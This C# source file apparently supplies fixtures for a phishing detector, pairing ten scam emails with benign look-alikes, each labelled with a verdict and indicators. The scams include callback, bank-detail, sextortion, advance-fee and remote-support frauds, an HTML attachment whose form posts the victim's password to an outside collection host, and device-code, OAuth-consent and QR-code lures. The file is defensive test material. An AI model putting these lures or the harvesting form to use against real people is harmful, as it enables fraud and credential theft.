namespace Lurewatch.Samples;

/// <summary>The frauds of today, each beside an honest mail that says nearly the same.</summary>
internal static class Scenarios
{
    private const string Server = "mx.stadt-lindenau.example";
    private const string Reader = "petra.sommer@stadt-lindenau.example";

    public static IEnumerable<Sample> All() =>
    [
        Callback(), CallbackHonest(),
        BankChange(), BankChangeHonest(),
        Extortion(), ExtortionHonest(),
        AdvanceFee(), AdvanceFeeHonest(),
        ServiceInvoice(), ServiceInvoiceHonest(),
        HtmlAttachment(), HtmlAttachmentHonest(),
        DeviceCode(), DeviceCodeHonest(),
        OAuthConsent(), OAuthConsentHonest(),
        QrCode(), QrCodeHonest(),
        RemoteSupport(), RemoteSupportHonest(),
        ChiefHonest(),
    ];

    private static SampleMail Mail(string domain, string ip, string from, string subject, string day, bool authentic, string to = Reader) => new SampleMail()
        .Header("Return-Path", $"<bounce@{domain}>")
        .Delivered($"mail.{domain}", ip, Server, $"{day} 09:14:07 +0100", authentic
            ? $"spf=pass smtp.mailfrom=bounce@{domain};\r\n\tdkim=pass header.d={domain} header.s=m1; dmarc=pass header.from={domain}"
            : $"spf=none smtp.mailfrom=bounce@{domain}; dkim=none; dmarc=none header.from={domain}")
        .Header("From", from).Header("To", to).Header("Subject", subject).Header("Date", $"{day} 09:14:02 +0100")
        .Header("Message-ID", $"<{SampleMail.Id(subject + day)}@{domain}>");

    private static Sample Attack(string name, string why, SampleMail mail, string kind, string verdict = "malicious", params string[] indicators) =>
        new(name, why, mail.ToBytes(), verdict, kind, indicators);

    private static Sample Clean(string name, string why, SampleMail mail) => new(name, why, mail.ToBytes(), "clean", "none");

    private static Sample Callback() => Attack("2026-02-03-en-callback",
        "Callback phishing: no link and no file, a subscription that nobody ordered and a number to call to stop it.",
        Mail("gmail.com", "192.0.2.61", "Norton Billing Department <k.harris.billing8841@gmail.com>", "Your order has been confirmed #NRT-88412-7", "Tue, 03 Feb 2026", authentic: true)
            .Text("""
                Dear customer,

                thank you for renewing Norton 360 Deluxe. Your subscription has been renewed for 3 years and $ 489.99 has been charged to your account today.

                Order number: NRT-88412-7
                Amount: $ 489.99

                If you did not authorize this charge or wish to cancel and claim a refund, call our billing department within 24 hours at +1 (808) 555-0143.

                Norton Billing Department
                """), "callback", "malicious", "+18085550143");

    private static Sample CallbackHonest() => Clean("en-subscription-renewed", "A real renewal: the vendor's own domain, the account page to look at, a number at the end as every firm has one.",
        Mail("scanpro-software.example", "192.0.2.62", "ScanPro <billing@scanpro-software.example>", "Your ScanPro subscription has been renewed", "Tue, 03 Feb 2026", authentic: true)
            .Text("""
                Hello Petra Sommer,

                your ScanPro subscription for 5 seats has been renewed until 3 February 2027. We charged 240.00 EUR to the card ending in 0412. The invoice is in your account:

                https://account.scanpro-software.example/invoices

                You can change or cancel the subscription there at any time.

                ScanPro GmbH, Hafenweg 3, 20457 Hamburg, phone 040 5550 1234
                """));

    private static Sample BankChange() => Attack("2026-02-04-de-bankverbindung",
        "A supplier's new bank account, from a domain that is all but the supplier's: no link, no file.",
        Mail("spielgerate-vogt.example", "192.0.2.63", "Karin Vogt <k.vogt@spielgerate-vogt.example>", "AW: Rechnung 2026-0117, neue Bankverbindung", "Wed, 04 Feb 2026", authentic: true)
            .Header("Reply-To", "k.vogt.buchhaltung@schnell-mail.example")
            .Text("""
                Sehr geehrte Frau Sommer,

                bitte beachten Sie, dass sich unsere Bankverbindung geändert hat. Das bisherige Konto wird geprüft und darf nicht mehr verwendet werden.
                Bitte überweisen Sie die offene Rechnung 2026-0117 über 18.240,00 EUR noch heute auf das neue Konto:

                Kontoinhaber: Vogt Handels UG
                IBAN: DE89 3704 0044 0532 0130 00

                Bestätigen Sie mir bitte kurz, wann die Zahlung ausgeführt ist.

                Mit freundlichen Grüßen
                Karin Vogt

                Von: Petra Sommer <petra.sommer@stadt-lindenau.example>
                Gesendet: Montag, 2. Februar 2026 11:20
                An: Karin Vogt <k.vogt@spielgeraete-vogt.example>
                Betreff: Rechnung 2026-0117

                Guten Tag Frau Vogt,
                die Rechnung ist eingegangen und wird in dieser Woche angewiesen.
                """), "payment-fraud", "malicious", "DE89370400440532013000");

    private static Sample BankChangeHonest() => Clean("de-rechnung-mit-iban", "An invoice in the text with the account to pay to: no haste, no change, the supplier's own address.",
        Mail("spielgeraete-vogt.example", "192.0.2.13", "Karin Vogt <k.vogt@spielgeraete-vogt.example>", "Rechnung 2026-0117", "Mon, 02 Feb 2026", authentic: true)
            .Text("""
                Sehr geehrte Frau Sommer,

                für die Lieferung vom 28. Januar berechnen wir 18.240,00 EUR, zahlbar innerhalb von 30 Tagen auf unser Konto bei der Sparkasse:
                IBAN DE02 1203 0000 0000 2020 51.

                Mit freundlichen Grüßen
                Karin Vogt
                """));

    private static Sample Extortion() => Attack("2026-02-05-en-extortion",
        "Extortion: \"I have filmed you\", a sum in bitcoin, 48 hours.",
        Mail("kundenpost.example", "192.0.2.64", "Petra Sommer <petra.sommer@stadt-lindenau.example>", "I have access to your device", "Thu, 05 Feb 2026", authentic: false)
            .Text("""
                Hello!

                I am a hacker who has access to your operating system. I have been watching you for months: I infected your device with malware through an adult website that you visited.
                I made a video of you through your camera. With one click I can send this video to all your contacts.

                If you want to prevent this, transfer $ 1450 in bitcoin to this wallet: 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa
                You have 48 hours from the moment you open this letter. Do not reply. If I find that you shared this message with someone, the video will be published immediately.
                """), "extortion", "malicious", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa");

    private static Sample ExtortionHonest() => Clean("de-warnung-vor-erpressung", "A colleague warns of such mail and quotes what it says.",
        Mail("stadt-lindenau.example", "192.0.2.12", "Jens Albrecht <jens.albrecht@stadt-lindenau.example>", "Hinweis: Erpressermails im Umlauf", "Thu, 05 Feb 2026", authentic: true)
            .Text("""
                Liebe Kolleginnen und Kollegen,

                zurzeit gehen bei uns Mails ein, in denen jemand behauptet, Aufnahmen mit der Kamera gemacht zu haben, und Bitcoin verlangt. Daran ist nichts;
                bitte leitet sie an die IT weiter und löscht sie. Niemand muss zahlen oder antworten.

                Gruß
                Jens
                """));

    private static Sample AdvanceFee() => Attack("2026-02-06-en-inheritance",
        "Advance fee: an inheritance of a stranger, confidence, a private mailbox for the answer.",
        Mail("outlook.com", "192.0.2.65", "Barrister James Okoro <jamesokoro.chambers@outlook.com>", "INHERITANCE FUND / NEXT OF KIN", "Fri, 06 Feb 2026", authentic: true, to: "undisclosed-recipients:;")
            .Header("Reply-To", "barr.jamesokoro@schnell-mail.example")
            .Text("""
                Dear friend,

                I am Barrister James Okoro, personal attorney to the late Mr. Sommer, who died without a next of kin and left the sum of US$ 12.5 million in a bank here.
                I seek your consent to present you as the next of kin so that the funds can be transferred to your account. You will receive 40% of the total sum.
                This transaction is 100% risk free and must be kept strictly confidential.

                Reply to me with your full name, address, telephone number and bank details so that we can proceed.

                Barrister James Okoro
                """), "advance-fee");

    private static Sample AdvanceFeeHonest() => Clean("de-nachlass-notar", "A notary's office asks the town for a file in a case of inheritance.",
        Mail("notariat-brandt.example", "192.0.2.66", "Notariat Brandt <kanzlei@notariat-brandt.example>", "Nachlasssache Weber, Ihr Zeichen 32-118", "Fri, 06 Feb 2026", authentic: true)
            .Text("""
                Sehr geehrte Frau Sommer,

                in der Nachlasssache Weber benötigen wir für das Amtsgericht eine beglaubigte Abschrift aus dem Sterberegister. Die Gebühr überweisen wir nach Erhalt Ihres Bescheids.

                Mit freundlichen Grüßen
                Dr. Brandt, Notar
                """));

    private static Sample ServiceInvoice() => Attack("2026-02-09-en-money-request",
        "A fake invoice that a real payment service delivers: everything authenticates, the fraud is in the seller's note.",
        Mail("paypal.com", "192.0.2.67", "service@paypal.com <service@paypal.com>", "Invoice from Billing Department (0048)", "Mon, 09 Feb 2026", authentic: true)
            .Text("""
                Hello,

                here is your invoice. Billing Department sent you an invoice for $599.99 USD, due on receipt.

                Note from Billing Department:
                Your account has been charged $599.99 USD for Bitcoin wallet protection by Geek Squad. If you did not make this transaction, call our support at +1 (808) 555-0178 immediately to cancel and get a refund.

                PayPal
                """), "callback", "malicious", "+18085550178");

    private static Sample ServiceInvoiceHonest() => Clean("en-money-received", "The same service says that money came in.",
        Mail("paypal.com", "192.0.2.67", "service@paypal.com <service@paypal.com>", "You've received a payment", "Mon, 09 Feb 2026", authentic: true)
            .Text("""
                Hello Petra Sommer,

                Turnverein Lindenau sent you 35.00 EUR.

                Note from Turnverein Lindenau:
                Standgebühr Flohmarkt, danke!

                The money is in your account. Log in to see the details of this transaction.

                PayPal
                """));

    private static Sample HtmlAttachment() => Attack("2026-02-10-en-html-attachment",
        "Credential phishing with an attached page that asks for the mailbox password and sends it to a stranger.",
        Mail("scan-service.example", "192.0.2.68", "Stadt Lindenau Scanner <noreply@scan-service.example>", "Scanned document from Xerox_4521 for petra.sommer", "Tue, 10 Feb 2026", authentic: false)
            .Text("""
                A document was scanned and sent to you. Open the attached file and sign in with your email password to view it.

                Pages: 3
                """)
            .Attach("Scan_4521.html", "text/html", """
                <!doctype html><html><head><title>Sign in to your account</title></head><body>
                <h1>Microsoft</h1><p>petra.sommer@stadt-lindenau.example</p><p>Because you're accessing sensitive info, you need to verify your password</p>
                <form method="post" action="https://collect.kassen-portal.example/p.php"><input type="hidden" name="u" value="petra.sommer@stadt-lindenau.example">
                <input type="password" name="p" placeholder="Password"><button>Sign in</button></form></body></html>
                """u8.ToArray()), "credential-phishing", "malicious", "https://collect.kassen-portal.example/p.php");

    private static Sample HtmlAttachmentHonest() => Clean("de-auswertung-als-html", "A report as an attached page: a table, nothing to fill in.",
        Mail("zaehler-dienst.example", "192.0.2.69", "Zählerdienst <bericht@zaehler-dienst.example>", "Verbrauchsbericht Januar", "Tue, 10 Feb 2026", authentic: true)
            .Text("Guten Tag,\n\nanbei der Verbrauchsbericht für Januar.\n\nIhr Zählerdienst\n")
            .Attach("Verbrauch_2026-01.html", "text/html", """
                <!doctype html><html><head><title>Verbrauch Januar 2026</title></head><body><h1>Verbrauch Januar 2026</h1>
                <table><tr><th>Gebäude</th><th>kWh</th></tr><tr><td>Rathaus</td><td>8.412</td></tr><tr><td>Kita Süd</td><td>2.118</td></tr></table></body></html>
                """u8.ToArray()));

    private static Sample DeviceCode() => Attack("2026-02-11-en-device-code",
        "Device-code phishing: the sign-in page is Microsoft's own, the code is the attacker's.",
        Mail("meeting-invites.example", "192.0.2.70", "Teams Meeting <invite@meeting-invites.example>", "Invitation: budget review, verification required", "Wed, 11 Feb 2026", authentic: false)
            .Html("""
                <html><body><p>You have been invited to a secure meeting. To join, verify your account:</p>
                <p>1. Open <a href="https://microsoft.com/devicelogin">https://microsoft.com/devicelogin</a><br>2. Enter the code <b>FQ7KPD9LM</b><br>3. Sign in with your work account</p>
                <p>The code expires in 15 minutes.</p></body></html>
                """), "credential-phishing", "suspicious");

    private static Sample DeviceCodeHonest() => Clean("de-anleitung-geraeteanmeldung", "The own IT explains how the meeting-room display is signed in; the code is on the display.",
        Mail("stadt-lindenau.example", "192.0.2.12", "Jens Albrecht <jens.albrecht@stadt-lindenau.example>", "Anleitung: Anzeige im Sitzungssaal", "Wed, 11 Feb 2026", authentic: true)
            .Text("""
                Liebe Petra,

                die Anzeige im Sitzungssaal muss einmal angemeldet werden. Sie zeigt einen Code; den gibst du am eigenen Rechner unter https://microsoft.com/devicelogin ein.
                Wenn du unsicher bist, komme ich vorbei.

                Gruß
                Jens
                """));

    private static Sample OAuthConsent() => Attack("2026-02-12-en-oauth-consent",
        "Consent phishing: the real sign-in page grants a stranger's application access to mail and files.",
        Mail("document-review.example", "192.0.2.71", "SharePoint <share@document-review.example>", "Document shared with you: Budget_2026.xlsx", "Thu, 12 Feb 2026", authentic: false)
            .Html("""
                <html><body><p>A document has been shared with you. Review the document and accept the permissions to open it:</p>
                <p><a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=8f0c1d2e-1111-4222-8333-944455556666&amp;response_type=code&amp;redirect_uri=https%3A%2F%2Fapp.document-review.example%2Fcb&amp;scope=offline_access%20Mail.ReadWrite%20Mail.Send%20Files.ReadWrite.All&amp;prompt=consent">Open Budget_2026.xlsx</a></p>
                <p>The link expires in 24 hours.</p></body></html>
                """), "credential-phishing", "suspicious");

    private static Sample OAuthConsentHonest() => Clean("en-connect-your-calendar", "A service that was just signed up for asks to connect the calendar: its own domain throughout, and only the calendar.",
        Mail("raumplaner.example", "192.0.2.72", "Raumplaner <hello@raumplaner.example>", "Connect your calendar", "Thu, 12 Feb 2026", authentic: true)
            .Html("""
                <html><body><p>Hello Petra,</p><p>as you asked in the settings, here is the link with which Raumplaner may read the meeting rooms' calendar:</p>
                <p><a href="https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=11111111-2222-4333-8444-555555555555&amp;response_type=code&amp;redirect_uri=https%3A%2F%2Fwww.raumplaner.example%2Foauth&amp;scope=Calendars.Read">Connect the calendar</a></p>
                <p>Raumplaner</p></body></html>
                """));

    private static Sample QrCode() => Attack("2026-02-13-en-qr-code",
        "QR phishing: the link is a picture, the recipient's address is in it, the page is on free hosting.",
        Mail("hr-notices.example", "192.0.2.73", "HR Department <notice@hr-notices.example>", "Action required: update your payroll authentication", "Fri, 13 Feb 2026", authentic: false)
            .Text("""
                Your multi-factor authentication for payroll expires today. To keep your account, scan the QR code below with your phone and sign in within 24 hours.
                """)
            .Attach("code.png", "image/png", QrPicture.Png("https://payroll-login.web.app/?e=cGV0cmEuc29tbWVyQHN0YWR0LWxpbmRlbmF1LmV4YW1wbGU="), "inline"),
        "credential-phishing", "malicious", "https://payroll-login.web.app/?e=cGV0cmEuc29tbWVyQHN0YWR0LWxpbmRlbmF1LmV4YW1wbGU=");

    private static Sample QrCodeHonest() => Clean("de-eintrittskarte", "A ticket with its code: the organiser's own domain.",
        Mail("stadttheater-lindenau.example", "192.0.2.74", "Stadttheater Lindenau <karten@stadttheater-lindenau.example>", "Ihre Eintrittskarte", "Fri, 13 Feb 2026", authentic: true)
            .Text("""
                Guten Tag Frau Sommer,

                hier ist Ihre Karte für Samstag, 21. Februar, 19:30 Uhr, Reihe 5, Platz 12. Zeigen Sie den Code am Einlass.

                Ihr Stadttheater
                """)
            .Attach("karte.png", "image/png", QrPicture.Png("https://www.stadttheater-lindenau.example/karte/7F3K2"), "inline"));

    private static Sample RemoteSupport() => Attack("2026-02-16-en-remote-support",
        "A false support that wants its remote-control program installed.",
        Mail("gmail.com", "192.0.2.75", "Security Support <security.helpdesk22@gmail.com>", "Your computer is infected, support ticket #5521", "Mon, 16 Feb 2026", authentic: true)
            .Text("""
                Dear user,

                our servers detected suspicious activity and viruses on your computer. To avoid loss of your data our technician must connect to your computer today.

                1. Download and install AnyDesk
                2. Call our technical support at +1 (808) 555-0190 and tell the technician the code that AnyDesk shows

                Do not switch off your computer until our technician has removed the viruses.

                Security Support
                """), "callback", "malicious", "+18085550190");

    private static Sample RemoteSupportHonest() => Clean("de-fernwartung-eigene-it", "The own IT announces remote maintenance; the program is installed already.",
        Mail("stadt-lindenau.example", "192.0.2.12", "Jens Albrecht <jens.albrecht@stadt-lindenau.example>", "Fernwartung morgen um 10 Uhr", "Mon, 16 Feb 2026", authentic: true)
            .Text("""
                Liebe Petra,

                ich schalte mich morgen um 10 Uhr mit TeamViewer auf deinen Rechner und richte das neue Fachverfahren ein. Du brauchst nichts zu installieren; ruf mich kurz an, wenn es dir nicht passt.

                Gruß
                Jens
                """));

    private static Sample ChiefHonest() => Clean("de-chef-bittet-um-anweisung", "The mayor's real request from the mayor's own address, with the reference of a decision and no secrecy.",
        Mail("stadt-lindenau.example", "192.0.2.12", "Bürgermeister Dr. Thomas Reinhardt <thomas.reinhardt@stadt-lindenau.example>", "Anweisung Spielplatz", "Tue, 17 Feb 2026", authentic: true)
            .Text("""
                Liebe Frau Sommer,

                der Rat hat den Spielplatz gestern beschlossen (Vorlage 2026/14). Bitte weisen Sie die erste Rate an Spielgeräte Vogt an, sobald die Rechnung geprüft ist.

                Viele Grüße
                Thomas Reinhardt
                """));
}
